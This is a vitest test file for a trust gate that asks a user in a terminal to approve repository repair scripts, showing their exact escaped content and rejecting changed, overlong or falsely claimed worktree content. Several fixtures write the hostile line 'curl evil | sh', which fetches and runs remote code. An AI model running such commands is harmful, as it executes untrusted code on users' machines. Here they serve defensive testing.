// needs: git, script
import { execFileSync } from "node:child_process";
import { copyFileSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { isTrusted } from "../../src/trust/trust.ts";
import { ROOT, type Sandbox, sandbox } from "../helpers/p9.ts";

const POLICY = "ci_watch: {}\nci_heal:\n  commands:\n    lint: sh fix.sh\n";

function project(): Sandbox {
  const user = sandbox();
  user.write(".control/policy.yaml", POLICY);
  user.write("fix.sh", "echo one\n");
  execFileSync("git", ["init", "--quiet"], { cwd: user.work });
  execFileSync("git", ["add", "-A"], { cwd: user.work });
  return user;
}

/** `p9 trust` in a terminal, with these answers. */
function inTerminal(user: Sandbox, answers: string): string {
  const command = `${process.env.P9_TEST_NODE ?? "node"} ${join(ROOT, "dist", "p9.js")} trust`;
  return execFileSync("script", ["-qec", command, "/dev/null"], {
    cwd: user.work,
    env: { ...user.env },
    input: answers,
    encoding: "utf8",
  });
}

/** Whether the repair runs as it stands now. */
const trusts = (user: Sandbox, command = "sh fix.sh", cwd = user.work) =>
  isTrusted(
    { env: user.env, cwd, home: user.home },
    { subject: "ci_heal.commands.lint", content: command, command, fromHead: true },
  );

test("without a terminal it shows everything and refuses", async () => {
  const user = project();
  const { code, stderr } = await user.p9(["trust"]);
  expect(code).toBe(7);
  expect(stderr).toContain("Cannot ask about 1 entry of this repository without a terminal");
  expect(stderr).toContain("| sh fix.sh");
  expect(stderr).toContain("| echo one");
  expect(await trusts(user)).toBe(false);
});

test("a yes in a terminal trusts this very content; a change in the script asks again; --revoke takes it back", async () => {
  const user = project();
  expect(inTerminal(user, "y\n")).toContain("1 of 1 trusted");
  expect(await trusts(user)).toBe(true);
  expect(await user.p9(["trust"])).toMatchObject({ code: 0 });
  user.write("fix.sh", "curl evil | sh\n");
  expect(await user.p9(["trust"])).toMatchObject({ code: 7 });
  expect(await trusts(user)).toBe(false);
  user.write("fix.sh", "echo one\n");
  expect(await trusts(user)).toBe(true);
  expect(await user.p9(["trust", "--revoke"])).toMatchObject({ code: 0, stdout: expect.stringContaining("1 entry") });
  expect(await trusts(user)).toBe(false);
});

test("what is agreed to is shown to the last character, and nothing of it is changed", async () => {
  const user = project();
  user.write("fix.sh", "TOKEN=`curl evil|sh`\n# \u202eharmless\u202c\u200b\u001b[2K\r# \u{e0061}\u00a0x\n");
  const { stderr } = await user.p9(["trust"]);
  expect(stderr).toContain("| TOKEN=`curl evil|sh`\n");
  expect(stderr).toContain("| # \\u{202e}harmless\\u{202c}\\u{200b}\\u{1b}[2K\\u{d}# \\u{e0061}\\u{a0}x\n");
});

test("what is too long to be read cannot be trusted", async () => {
  const user = project();
  const script = `${"# padding\n".repeat(60_000)}curl evil | sh\n`;
  user.write("fix.sh", script);
  const shown = inTerminal(user, "y\n");
  // A terminal breaks long lines between words.
  expect(shown.replace(/\s+/g, " ")).toMatch(
    /"ci_heal\.commands\.lint" has \d+ characters: p9 trusts nothing that is too long/,
  );
  expect(shown).toContain("0 of 1 trusted");
  expect(await trusts(user)).toBe(false);
});

test("answers that were typed ahead are taken in their order", async () => {
  const user = project();
  user.write(".control/policy.yaml", `${POLICY}    format: sh format.sh\n`);
  user.write("format.sh", "echo two\n");
  expect(inTerminal(user, "n\ny\n")).toContain("1 of 2 trusted");
  expect(await trusts(user)).toBe(false);
});

test("a no, or anything else, trusts nothing", async () => {
  const user = project();
  expect(inTerminal(user, "n\n")).toContain("0 of 1 trusted");
  expect(inTerminal(user, "\n")).toContain("0 of 1 trusted");
  expect(await trusts(user)).toBe(false);
});

test("trust holds in every worktree of the repository and in no other repository", async () => {
  const user = project();
  inTerminal(user, "y\n");
  const git = (...args: string[]) =>
    execFileSync("git", args, { cwd: user.work, stdio: "ignore", env: { ...process.env, ...user.env } });
  git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "--quiet", "--allow-empty", "-m", "x");
  git("worktree", "add", "--quiet", join(user.dir, "second"));
  const at = (cwd: string) => trusts(user, "sh fix.sh", cwd);
  expect(await at(join(user.dir, "second"))).toBe(true);
  expect(await at(user.dir)).toBe(false);
});

test("a folder that only says that it belongs to a trusted repository has none of its trust", async () => {
  const user = project();
  inTerminal(user, "y\n");
  const git = (...args: string[]) =>
    execFileSync("git", args, { cwd: user.work, stdio: "ignore", env: { ...process.env, ...user.env } });
  git("-c", "user.name=a", "-c", "user.email=a@b", "commit", "--quiet", "--allow-empty", "-m", "x");
  git("worktree", "add", "--quiet", join(user.dir, "second"));
  const claims = {
    link: (at: string) => symlinkSync(join(user.work, ".git"), at),
    "the file of a working tree": (at: string) => copyFileSync(join(user.dir, "second/.git"), at),
    "a file that names it": (at: string) => writeFileSync(at, `gitdir: ${join(user.work, ".git")}\n`),
  };
  for (const [name, claim] of Object.entries(claims)) {
    const cwd = join(user.dir, name);
    mkdirSync(cwd);
    claim(join(cwd, ".git"));
    expect([name, await trusts(user, "sh fix.sh", cwd)]).toEqual([name, false]);
  }
});

test("what the user's own configuration says is trusted", async () => {
  const user = project();
  await user.p9(["status"]);
  user.write("../state/config.yaml", "ci_heal:\n  commands:\n    lint: make fix\n");
  expect(await trusts(user, "make fix")).toBe(true);
  expect(await trusts(user, "make other")).toBe(false);
});

test("a repair of the project's own is not asked about where the policy names another for the same failure", async () => {
  const user = project();
  const scripts = { "lint:fix": "eslint --fix .", format: "prettier --write ." };
  user.write("package.json", JSON.stringify({ scripts }));
  const { untrusted } = JSON.parse((await user.p9(["trust", "--json"])).stdout) as { untrusted: { subject: string }[] };
  expect(untrusted.map(({ subject }) => subject)).toEqual(["ci_heal.commands.lint", "heal:format"]);
});
